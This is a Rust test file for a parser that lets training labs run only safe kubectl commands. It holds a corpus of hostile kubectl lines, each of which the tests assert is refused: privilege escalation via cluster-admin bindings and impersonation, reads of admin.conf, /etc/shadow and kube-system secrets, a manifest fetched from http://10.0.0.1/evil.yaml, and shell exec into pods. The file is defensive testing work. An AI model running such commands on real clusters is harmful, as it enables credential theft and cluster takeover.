//! The hostile-lab corpus for commands (every bypass of the security review's H1 and issue #21,
//! each refused) and property tests: whatever words a lab strings together, a command accepted
//! here means to kubectl what it means to minik (same verb, one namespace, no foreign server).

use proptest::prelude::*;

use super::super::command::parse;

fn refusal(line: &str) -> String {
    match parse(line) {
        Ok(c) => panic!("accepted: {line} -> {c:?}"),
        Err((message, _)) => message,
    }
}

#[test]
fn the_review_bypasses_are_refused() {
    for (line, says) in [
        // A verb hidden behind a value-taking flag.
        ("kubectl --cache-dir get delete namespace local-path-storage", "before the verb"),
        ("kubectl get --cache-dir delete namespace x", "not allowed in a lab"),
        ("kubectl get pods --profile-output delete", "not allowed in a lab"),
        ("kubectl get pods --request-timeout delete ns x", "does not take"),
        ("kubectl -n {namespace} delete pods --all", "before the verb"),
        // Two namespaces: minik read the first, kubectl uses the last.
        ("kubectl delete pods --all -n {namespace} -n kube-system", "more than once"),
        ("kubectl delete pods --all --namespace={namespace} -n=kube-system", "more than once"),
        ("kubectl delete pods --all -nkube-system -n {namespace}", "does not take"),
        // Cluster-wide kinds, short, plural or dotted.
        ("kubectl delete clusterrolebinding.rbac.authorization.k8s.io/cluster-admin -n {namespace}", "kind a lab may"),
        ("kubectl delete customresourcedefinitions --all -n {namespace}", "kind a lab may"),
        ("kubectl delete validatingwebhookconfigurations --all -n {namespace}", "kind a lab may"),
        ("kubectl delete mutatingwebhookconfigurations x -n {namespace}", "kind a lab may"),
        ("kubectl delete apiservices v1.apps -n {namespace}", "kind a lab may"),
        ("kubectl delete priorityclasses x -n {namespace}", "kind a lab may"),
        ("kubectl delete pods,nodes x -n {namespace}", "kind a lab may"),
        ("kubectl delete pod/x node/y -n {namespace}", "kind a lab may"),
        ("kubectl delete pod/x nodes -n {namespace}", "follows a TYPE/NAME"),
        ("kubectl label nodes x evil=1 -n {namespace}", "one label on {worker}"),
        ("kubectl patch node/x -n {namespace} -p x", "kind a lab may"),
        ("kubectl delete pods.evil.example.com x -n {namespace}", "kind a lab may"),
        ("kubectl rollout restart daemonset.v1.evil/x -n {namespace}", "kind a lab may"),
        ("kubectl create clusterrolebinding x --clusterrole=cluster-admin -n {namespace}", "does not take"),
        ("kubectl create clusterrolebinding x -n {namespace}", "makes a deployment"),
        ("kubectl create rolebinding x -n {namespace}", "makes a deployment"),
        ("kubectl create token default -n {namespace}", "makes a deployment"),
        // Privileged pods and arbitrary pod specs from the command line.
        ("kubectl run x --image=busybox --privileged -n {namespace}", "not allowed in a lab"),
        ("kubectl run x --image=busybox --overrides=x -n {namespace}", "not allowed in a lab"),
        ("kubectl run x --image=busybox -it -n {namespace}", "does not take"),
        ("kubectl run x --image=busybox --rm -n {namespace}", "does not take"),
        // Files written or read in the node, and other servers or identities.
        ("kubectl get pods --profile=heap --profile-output=/etc/kubernetes/manifests/kube-apiserver.yaml", "not allowed"),
        ("kubectl get pods --server=https://10.0.0.1 --insecure-skip-tls-verify=true", "not allowed"),
        ("kubectl get pods -s https://10.0.0.1", "does not take"),
        ("kubectl get pods --kubeconfig=/tmp/x", "not allowed"),
        ("kubectl get pods --token=abc", "not allowed"),
        ("kubectl get pods --as=system:admin", "not allowed"),
        ("kubectl get pods --as-group=system:masters", "not allowed"),
        ("kubectl get --raw /api/v1/namespaces/kube-system/secrets", "not allowed"),
        ("kubectl get pods -o go-template-file=/etc/kubernetes/admin.conf", "output"),
        ("kubectl get pods --template=/etc/shadow", "does not take"),
        ("kubectl cluster-info dump --output-directory=/etc", "does not take"),
        ("kubectl cluster-info dump", "takes no arguments"),
        ("kubectl apply -n {namespace} -f http://10.0.0.1/evil.yaml", "only the step's own manifest"),
        ("kubectl apply -n {namespace} -f /etc/kubernetes/admin.conf", "only the step's own manifest"),
        ("kubectl apply -n {namespace} -f - -f -", "only the step's own manifest"),
        ("kubectl apply -n {namespace} -k .", "does not take"),
        ("kubectl apply -n {namespace} -f - --prune --all", "does not take"),
        ("kubectl create configmap x --from-file=/etc/kubernetes/pki -n {namespace}", "does not take"),
        ("kubectl get pods -l -f", "may not start with '-'"),
        // Verbs that reach into nodes or containers.
        ("kubectl exec x -n {namespace} -- sh", "not a command labs may run"),
        ("kubectl debug node/x -it --image=busybox", "not a command labs may run"),
        ("kubectl cp x:/etc/passwd /tmp/x -n {namespace}", "not a command labs may run"),
        ("kubectl proxy --port=8001", "not a command labs may run"),
        ("kubectl config view --raw", "not a command labs may run"),
        ("kubectl delete -n {namespace} pods --all -A", "does not take"),
        ("kubectl delete pods x -n {namespace} -- y", "after --"),
        ("kubectl cordon -l node-role.kubernetes.io/control-plane", "does not take"),
        ("kubectl drain {worker} -n {namespace}", "{worker} only"),
        ("kubectl top", "needs one of"),
    ] {
        let got = refusal(line);
        assert!(got.contains(says), "{line}: {got}");
    }
}

#[test]
fn what_labs_need_is_allowed() {
    for ok in [
        "kubectl get nodes -o wide",
        "kubectl get pods -n kube-system -l tier=control-plane -o wide",
        "kubectl get pods -A --show-labels",
        "kubectl get pods -A=true",
        "kubectl get deployments,replicasets,pods -n {namespace} -o wide",
        "kubectl get endpointslices -n {namespace} -l kubernetes.io/service-name=hello",
        "kubectl describe pod {pod} -n {namespace}",
        "kubectl logs {pod} -n {namespace} --tail=20",
        "kubectl top pods -n {namespace}",
        "kubectl wait --for=condition=Ready pod/x -n {namespace} --timeout=60s",
        "kubectl explain pods.spec.containers",
        "kubectl api-resources --namespaced=true",
        "kubectl version",
        "kubectl create namespace {namespace}",
        "kubectl delete namespace {namespace}",
        "kubectl apply -n {namespace} -f -",
        "kubectl create -n {namespace} -f -",
        "kubectl create deployment web -n {namespace} --image=nginx --replicas=2",
        "kubectl create service clusterip web -n {namespace} --tcp=80:8080",
        "kubectl scale deployment hello -n {namespace} --replicas=3",
        "kubectl scale deployment.apps/hello -n {namespace} --replicas=3",
        "kubectl delete pod {pod} --namespace={namespace}",
        "kubectl delete pods -l app=hello -n {namespace} --wait=false",
        "kubectl label pods {pod} -n {namespace} tier=web app.kubernetes.io/part-of-",
        "kubectl rollout status deployment/hello -n {namespace}",
        "kubectl rollout undo deployment hello -n {namespace} --to-revision=1",
        "kubectl set image deployment/hello -n {namespace} hello=nginx:1.27",
        "kubectl expose deployment hello -n {namespace} --port=80 --target-port=8080",
        "kubectl run box -n {namespace} --image=busybox --restart=Never -- sleep 3600",
        "kubectl autoscale deployment hello -n {namespace} --min=1 --max=3",
        "kubectl drain {worker} --ignore-daemonsets --delete-emptydir-data",
        "kubectl cordon {worker}",
        "kubectl uncordon {worker}",
        "kubectl label node {worker} disktype=ssd",
        "kubectl label nodes {worker} disktype=ssd --overwrite",
        "kubectl label node/{worker} example.com/disk-",
    ] {
        assert!(parse(ok).is_ok(), "{ok}: {:?}", parse(ok));
    }
}

/// A lab labels only `{worker}`, one plain label of its own, and minik runs that (and its undo)
/// with admin rights; anything else on a node is refused before the cluster is touched.
#[test]
fn node_labels_are_one_label_on_the_worker() {
    use super::super::sandbox::is_tour_action;
    for (line, says) in [
        ("kubectl label node lab-worker disktype=ssd", "on {worker}"),
        (
            "kubectl label node {controlPlane} disktype=ssd",
            "on {worker}",
        ),
        ("kubectl label nodes --all disktype=ssd", "on {worker}"),
        ("kubectl label nodes -l x=y disktype=ssd", "on {worker}"),
        ("kubectl label node {worker} a=1 b=2", "on {worker}"),
        ("kubectl label node {worker}", "on {worker}"),
        (
            "kubectl label node {worker} disktype=ssd -n {namespace}",
            "on {worker}",
        ),
        (
            "kubectl label node {worker} node-role.kubernetes.io/control-plane=",
            "cluster's own",
        ),
        (
            "kubectl label node {worker} kubernetes.io/hostname=x --overwrite",
            "cluster's own",
        ),
        (
            "kubectl label node {worker} topology.kubernetes.io/zone-",
            "cluster's own",
        ),
        ("kubectl label node {worker} x.k8s.io/y=z", "cluster's own"),
        ("kubectl label node {worker} disktype", "not a label"),
        ("kubectl label node {worker} disk=a=b", "not a label"),
        ("kubectl label node {worker} -disk=ssd", "does not take"),
        (
            "kubectl label node {worker} disk={namespace}",
            "not a label",
        ),
        ("kubectl label node/other disktype=ssd", "on {worker}"),
    ] {
        let got = refusal(line);
        assert!(got.contains(says), "{line}: {got}");
    }
    let args = |l: &str| -> Vec<String> { l.split(' ').skip(1).map(String::from).collect() };
    assert!(is_tour_action(&args(
        "kubectl label node {worker} disktype=ssd"
    )));
    assert!(is_tour_action(&args(
        "kubectl label node {worker} disktype-"
    )));
    assert!(!is_tour_action(&args(
        "kubectl label pods x -n {namespace} a=b"
    )));
}

/// Every value-taking long flag of kubectl 1.32 (global and per verb).
const VALUE_LONG: &[&str] = &[
    "as",
    "as-group",
    "as-uid",
    "cache-dir",
    "certificate-authority",
    "client-certificate",
    "client-key",
    "cluster",
    "context",
    "kubeconfig",
    "log-flush-frequency",
    "namespace",
    "password",
    "profile",
    "profile-output",
    "request-timeout",
    "server",
    "tls-server-name",
    "token",
    "user",
    "username",
    "v",
    "vmodule",
    "output",
    "selector",
    "field-selector",
    "filename",
    "kustomize",
    "label-columns",
    "sort-by",
    "template",
    "raw",
    "chunk-size",
    "subresource",
    "container",
    "tail",
    "since",
    "since-time",
    "limit-bytes",
    "for",
    "timeout",
    "types",
    "field-manager",
    "grace-period",
    "prune-allowlist",
    "replicas",
    "current-replicas",
    "resource-version",
    "patch",
    "patch-file",
    "type",
    "port",
    "target-port",
    "name",
    "protocol",
    "labels",
    "external-ip",
    "overrides",
    "image",
    "env",
    "restart",
    "min",
    "max",
    "cpu-percent",
    "revision",
    "to-revision",
    "limits",
    "requests",
    "containers",
    "from",
    "keys",
    "tcp",
    "from-literal",
    "from-file",
    "api-version",
    "api-group",
    "verbs",
    "pod-selector",
    "clusterip",
    "annotations",
    "image-pull-policy",
    "max-log-requests",
    "pod-running-timeout",
    "prefix",
];

/// kubectl's own reading of a command, independent of minik's tables: every value-taking flag of
/// kubectl 1.32 (global and per verb) takes the next word, unless written `--flag=value`.
fn kubectl_reading(args: &[String]) -> (Vec<String>, Vec<String>, Vec<String>) {
    const VALUE_SHORT: &[char] = &['n', 's', 'v', 'o', 'l', 'f', 'k', 'L', 'c', 'p', 'e', 'r'];
    let logs = args.first().is_some_and(|v| v == "logs");
    let (mut positionals, mut namespaces, mut flags) = (Vec::new(), Vec::new(), Vec::new());
    let mut i = 0;
    while i < args.len() {
        let w = &args[i];
        i += 1;
        if w == "--" {
            break;
        }
        if let Some(long) = w.strip_prefix("--") {
            let (name, inline) = match long.split_once('=') {
                Some((n, v)) => (n, Some(v.to_string())),
                None => (long, None),
            };
            let takes = VALUE_LONG.contains(&name) && !(logs && name == "prefix");
            let value = inline.or_else(|| takes.then(|| args.get(i).cloned()).flatten());
            if takes && !long.contains('=') {
                i += 1;
            }
            if name == "namespace" {
                namespaces.push(value.unwrap_or_default());
            }
            flags.push(name.to_string());
        } else if w.len() > 1 && w.starts_with('-') {
            let c = w[1..].chars().next().unwrap_or(' ');
            let rest = &w[1 + c.len_utf8()..];
            let switch_here = logs && (c == 'f' || c == 'p');
            let value = if !rest.is_empty() {
                Some(rest.trim_start_matches('=').to_string())
            } else if VALUE_SHORT.contains(&c) && !switch_here {
                i += 1;
                args.get(i - 1).cloned()
            } else {
                None
            };
            if c == 'n' {
                namespaces.push(value.unwrap_or_default());
            }
            flags.push(c.to_string());
        } else {
            positionals.push(w.clone());
        }
    }
    (positionals, namespaces, flags)
}

fn word() -> impl Strategy<Value = String> {
    prop::sample::select(vec![
        "get",
        "delete",
        "apply",
        "create",
        "run",
        "logs",
        "drain",
        "label",
        "namespace",
        "pods",
        "nodes",
        "clusterrolebinding.rbac.authorization.k8s.io",
        "x",
        "pod/x",
        "node/x",
        "{namespace}",
        "{worker}",
        "kube-system",
        "-",
        "-n",
        "-n=kube-system",
        "--namespace",
        "--namespace={namespace}",
        "-f",
        "-f=-",
        "--filename",
        "-l",
        "-p",
        "-o",
        "wide",
        "--cache-dir",
        "--profile-output",
        "--server",
        "--kubeconfig=x",
        "--as",
        "--token",
        "--all",
        "-A",
        "--raw",
        "--privileged",
        "--image=busybox",
        "--replicas",
        "3",
        "--",
        "app=x",
        "--dry-run",
        "client",
        "--wait",
        "false",
        "--for",
        "-nkube-system",
        "-it",
        "--prefix",
        "--tail",
        "--request-timeout",
        "-s",
        "--show-labels",
        "--template",
    ])
    .prop_map(str::to_string)
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 3000, ..ProptestConfig::default() })]

    /// Accepted means the same to kubectl: its verb is the first word, the only namespace is
    /// one named once, changes stay in `{namespace}`, and no foreign server, identity or file.
    #[test]
    fn accepted_commands_mean_to_kubectl_what_they_mean_to_minik(
        words in prop::collection::vec(word(), 1..9),
    ) {
        let line = format!("kubectl {}", words.join(" "));
        let Ok(cmd) = parse(&line) else { return Ok(()) };
        let (positionals, namespaces, flags) = kubectl_reading(&cmd.0);
        prop_assert_eq!(positionals.first(), cmd.0.first(), "{}", line);
        prop_assert!(namespaces.len() <= 1, "{}", line);
        for f in &flags {
            prop_assert!(
                !["cache-dir", "profile", "profile-output", "server", "s", "kubeconfig", "as",
                  "token", "raw", "privileged", "template"].contains(&f.as_str()),
                "{}", line
            );
        }
        let verb = cmd.0[0].as_str();
        let changes = ["delete", "apply", "create", "run", "label"].contains(&verb);
        let own = positionals.len() == 3 && positionals[1] == "namespace"
            && positionals[2] == "{namespace}";
        if changes && !own {
            prop_assert_eq!(namespaces, vec!["{namespace}".to_string()], "{}", line);
            // The kinds (the first argument, and TYPE of any TYPE/NAME; run and create take
            // names): none cluster-wide.
            if ["delete", "label"].contains(&verb) {
                let typed = positionals[1..].iter().filter(|p| p.contains('/'));
                for p in positionals.get(1).into_iter().chain(typed) {
                    let kind = p.split('/').next().unwrap_or_default();
                    prop_assert!(!kind.starts_with("node") && !kind.contains("cluster"), "{}", line);
                }
            }
        }
        if verb == "drain" {
            prop_assert_eq!(&positionals[1..], &["{worker}".to_string()][..], "{}", line);
        }
    }

    /// Nothing a lab file holds makes the parser panic.
    #[test]
    fn any_line_is_accepted_or_refused(line in "kubectl [ -~]{0,80}") {
        let _ = parse(&line);
    }
}
